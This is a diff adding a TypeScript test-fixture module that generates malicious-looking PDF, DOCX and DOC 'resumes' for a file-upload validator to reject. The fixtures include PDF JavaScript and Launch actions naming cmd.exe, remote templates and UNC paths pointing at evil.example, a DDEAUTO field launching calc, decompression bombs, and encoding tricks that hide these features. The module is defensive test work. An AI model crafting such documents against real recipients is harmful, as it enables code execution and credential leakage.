@@ -1,0 +1,262 @@
+/** Documents that are whole and open well, and do or hide something that no resume has to. */
+import { deflateSync } from 'node:zlib'
+import { PDFDocument } from '@cantoo/pdf-lib'
+import type { NamedFile } from './ordinaryResumes.ts'
+import {
+  appendToPdf,
+  docxParts,
+  makeDoc,
+  makePdf,
+  makeZip,
+  objectStream,
+  relationships,
+  wordDocument,
+  type ZipPart,
+} from './resumeFixtures.ts'
+
+export interface HostileDocument extends NamedFile {
+  /** Words of the message. */
+  says: string
+}
+
+const pdf = (title: string, says: string, data: Buffer): HostileDocument => ({
+  title: `PDF: ${title}`,
+  name: 'resume.pdf',
+  data,
+  says,
+})
+const object = (content: string, number = 3): string => `${number} 0 obj\n${content}\nendobj\n`
+const pdfWith = (title: string, says: string, content: string): HostileDocument =>
+  pdf(title, says, makePdf({ objects: object(content) }))
+const scripted = (title: string, content: string): HostileDocument => pdfWith(title, 'contains a script', content)
+
+const docx = (title: string, says: string, parts: readonly ZipPart[]): HostileDocument => ({
+  title: `DOCX: ${title}`,
+  name: 'resume.docx',
+  data: makeZip(parts),
+  says,
+})
+const docxWith = (title: string, says: string, ...parts: ZipPart[]): HostileDocument =>
+  docx(title, says, docxParts(parts))
+const template = (title: string, target: string, name = 'word/_rels/settings.xml.rels'): HostileDocument =>
+  docxWith(`a template from ${title}`, 'from elsewhere', {
+    name,
+    data: relationships({ type: 'attachedTemplate', target, external: true }),
+  })
+const documentOf = (title: string, says: string, body: string): HostileDocument =>
+  docx(title, says, [...docxParts().slice(0, 2), { name: 'word/document.xml', data: wordDocument(body) }])
+const typed = (title: string, contentType: string): HostileDocument =>
+  docx(title, 'contains macros', [
+    {
+      name: '[Content_Types].xml',
+      data: String(docxParts()[0]?.data).replace(
+        '</Types>',
+        `<Override PartName="/word/a.bin" ContentType="${contentType}"/></Types>`,
+      ),
+    },
+    ...docxParts().slice(1),
+  ])
+
+const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
+const ARCHIVE = makeZip([{ name: 'evil.exe', data: 'MZ' }])
+const stream = (data: Buffer, entries = ''): string =>
+  `<<${entries}/Length ${data.length}>>\nstream\n${data.toString('latin1')}\nendstream`
+
+async function written(
+  change: (document: PDFDocument) => void | Promise<void>,
+  useObjectStreams: boolean,
+): Promise<Buffer> {
+  const document = await PDFDocument.create()
+  document.addPage()
+  await change(document)
+  return Buffer.from(await document.save({ useObjectStreams }))
+}
+
+async function writtenPdfs(): Promise<HostileDocument[]> {
+  const changes: [string, string, (document: PDFDocument) => void | Promise<void>][] = [
+    [
+      'a script in the list of names',
+      'contains a script',
+      (document) => document.addJavaScript('start', 'app.alert(1)'),
+    ],
+    [
+      'an attached file',
+      'has other files attached',
+      (document) => document.attach(Buffer.from('MZ'), 'evil.exe', { mimeType: 'application/octet-stream' }),
+    ],
+    ['a password', 'is protected', (document) => document.encrypt({ userPassword: 'secret', ownerPassword: 'secret' })],
+    ['restrictions alone', 'is protected', (document) => document.encrypt({ ownerPassword: 'secret' })],
+  ]
+  return Promise.all(
+    changes.flatMap(([title, says, change]) =>
+      [true, false].map(async (packed) =>
+        pdf(`${title}, ${packed ? 'in an object stream' : 'as it is'}`, says, await written(change, packed)),
+      ),
+    ),
+  )
+}
+
+/** @returns files that must be refused */
+export async function hostileDocuments(): Promise<HostileDocument[]> {
+  return [
+    ...(await writtenPdfs()),
+    scripted('a script when it opens', `<</OpenAction${SCRIPT}>>`),
+    scripted('a script when a page is shown', `<</Type/Page/AA<</O ${SCRIPT}>>>>`),
+    scripted('a script behind a link', `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${SCRIPT}>>`),
+    scripted('a script in a field', `<</FT/Tx/T(name)/AA<</K ${SCRIPT}>>>>`),
+    scripted('a script after another action', `<</S/URI/URI(https://example.com)/Next[${SCRIPT}]>>`),
+    scripted('a script in a film', '<</S/Rendition/JS(app.alert\\(1\\))>>'),
+    scripted('a script under a coded name', '<</#53/J#61vaScript/#4aS(1)>>'),
+    scripted(
+      'a script whose words are objects',
+      '<</S 4 0 R/JS 5 0 R>>\nendobj\n4 0 obj /JavaScript endobj\n5 0 obj (1)',
+    ),
+    scripted(
+      'a script after comments and a text that looks like an end',
+      '%\n<</A(>>\nstream\n)/S%\n/JavaScript/JS(1)>>',
+    ),
+    scripted('a script in an object stream', objectStream([[4, SCRIPT]])),
+    scripted('a script in an object stream without a type', objectStream([[4, SCRIPT]], '')),
+    scripted('a program in an object stream', objectStream([[4, '<</S/Launch/F(cmd.exe)>>']])),
+    scripted('a script in an object that lies in a stream', stream(Buffer.from(`9 0 obj\n${SCRIPT}\nendobj`))),
+    scripted('a script in an object that lies in a string', `(9 0 obj\n${SCRIPT}\nendobj)`),
+    scripted('a program to start', '<</S/Launch/Win<</F(cmd.exe)>>>>'),
+    scripted('an XML form', '<</Fields[]/XFA[(template)4 0 R]>>\nendobj\n4 0 obj\n<</Length 1>>\nstream\nx\nendstream'),
+    pdf(
+      'a script that a later change took out',
+      'contains a script',
+      appendToPdf(makePdf({ objects: object(SCRIPT) }), object('null')),
+    ),
+    pdf(
+      'a catalogue with a script in the trailer',
+      'contains a script',
+      Buffer.from(
+        makePdf().toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R/X<</OpenAction${SCRIPT}>>`),
+        'latin1',
+      ),
+    ),
+    pdfWith(
+      'an encrypted stream of cross-references',
+      'is protected',
+      stream(Buffer.from('x'), '/Type/XRef/Encrypt 9 0 R'),
+    ),
+    pdf(
+      'an entry for encryption',
+      'is protected',
+      Buffer.from(makePdf().toString('latin1').replace('/Root', '/Encrypt<</Filter/Standard/V 2>>/Root'), 'latin1'),
+    ),
+    pdfWith(
+      'a file in the file',
+      'has other files attached',
+      stream(deflateSync('MZ'), '/Type/EmbeddedFile/Filter/FlateDecode'),
+    ),
+    pdfWith(
+      'a file behind an annotation',
+      'has other files attached',
+      '<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 9 0 R>>>>>>',
+    ),
+    pdfWith('a way into an attached file', 'has other files attached', '<</S/GoToE/T<</R/C/N(a.pdf)>>>>'),
+    pdfWith(
+      'data in a file of their own',
+      'has other files attached',
+      '<</Length 0/F(data.bin)>>\nstream\n\nendstream',
+    ),
+    pdfWith('a form that sends', 'sends or loads data', '<</S/SubmitForm/F(https://evil.example/)>>'),
+    pdfWith('a form that loads', 'sends or loads data', '<</S/ImportData/F(data.fdf)>>'),
+    pdfWith('a film', 'contains film', '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'),
+    pdfWith(
+      'a document on a network drive',
+      'on a network drive',
+      String.raw`<</S/GoToR/F(\\\\evil.example\\share\\a.pdf)/D[0/Fit]>>`,
+    ),
+    pdfWith(
+      'a network drive in UTF-16',
+      'on a network drive',
+      '<</S/GoToR/F<</UF<FEFF005C005C006500760069006C005C0061>>>>>',
+    ),
+    pdfWith('a link to a network drive', 'on a network drive', '<</S/URI/URI(file://evil.example/share/a.pdf)>>'),
+    pdfWith(
+      'an archive in a stream',
+      'more than a PDF',
+      `${stream(ARCHIVE)}\nendobj\n4 0 obj\n(${'x'.repeat(70_000)})`,
+    ),
+    pdfWith(
+      'an object stream that unpacks to 100 MB',
+      'damaged',
+      stream(deflateSync(Buffer.alloc(100 * 1024 * 1024)), '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'),
+    ),
+    pdfWith('arrays without an end', 'damaged', '['.repeat(100_000)),
+
+    template('the web', 'https://evil.example/t.dotm'),
+    template('the web, with a coded letter', '&#104;ttps://evil.example/t.dotm'),
+    template('a network drive as a file', 'file://evil.example/t.dotm'),
+    template('a network drive with five slashes', 'file://///evil.example/t.dotm'),
+    template('a network drive with coded slashes', 'file:%5c%5cevil.example%5ct.dotm'),
+    template('a network drive', String.raw`\\evil.example\t.dotm`),
+    template('the web, after white space', '&#10; HTTPS://evil.example/t.dotm'),
+    template('the web, in a part in capital letters', 'https://evil.example/t.dotm', 'word/_rels/Settings.xml.rels'),
+    template('the web, for another part', 'https://evil.example/t.dotm', 'word/_rels/document.xml.rels'),
+    docxWith('a template in UTF-16', 'from elsewhere', {
+      name: 'word/_rels/settings.xml.rels',
+      data: Buffer.from(
+        `\ufeff${relationships({ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }).replace('UTF-8', 'UTF-16')}`,
+        'utf16le',
+      ),
+    }),
+    docxWith('a template behind a document type', 'damaged', {
+      name: 'word/_rels/settings.xml.rels',
+      data: `<!DOCTYPE r [<!ENTITY u "https://evil.example/">]>${relationships({ type: 'attachedTemplate', target: '&u;', external: true }).replace(/^.+\n/, '')}`,
+    }),
+    docxWith('an object from the web', 'from elsewhere', {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships({ type: 'oleObject', target: 'mhtml:https://evil.example/a!x', external: true }),
+    }),
+    docxWith('a picture on a network drive', 'on a network drive', {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships({ type: 'image', target: 'file://evil.example/a.png', external: true }),
+    }),
+    docxWith('another document inside', 'from elsewhere', {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships({ type: 'aFChunk', target: 'chunk.xml' }),
+    }),
+    typed('macros with a coded letter', 'application/vnd.ms-office.vba&#80;roject'),
+    typed('macros with another coded letter', 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
+    docxWith('macros by their relationship', 'contains macros', {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships({ type: 'vbaProject', target: 'innocent.xml' }),
+    }),
+    ...['run.wsf', 'link.url', 'link.scf', 'run.JSE', 'macros.docm', 'page.mht'].map((name) =>
+      docxWith(name, 'contains macros', { name: `word/embeddings/${name}`, data: 'x' }),
+    ),
+    docxWith('a program in an object', 'contains macros', {
+      name: 'word/embeddings/oleObject1.bin',
+      data: makeDoc({ extraEntries: ['\u0001Ole10Native'] }),
+    }),
+    documentOf(
+      'a field that starts a program',
+      'contains macros',
+      '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/>',
+    ),
+    documentOf(
+      'a field in pieces that starts a program',
+      'contains macros',
+      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO x</w:instrText></w:r>',
+    ),
+    docxWith('90 MB that say to be 1,000 bytes', 'unpacks to far more', {
+      name: 'word/media/a.bin',
+      data: Buffer.alloc(90 * 1024 * 1024),
+      declaredSize: 1000,
+    }),
+    docxWith('1,000 bytes that say to be more', 'damaged', {
+      name: 'word/media/a.bin',
+      data: 'x'.repeat(1000),
+      declaredSize: 2000,
+    }),
+    ...['macros', 'Macros\0x', 'vba'].map((name) => ({
+      title: `DOC: macros under the name ${JSON.stringify(name)}`,
+      name: 'resume.doc',
+      data: makeDoc({ extraEntries: [name] }),
+      says: 'contains macros',
+    })),
+  ]
+}
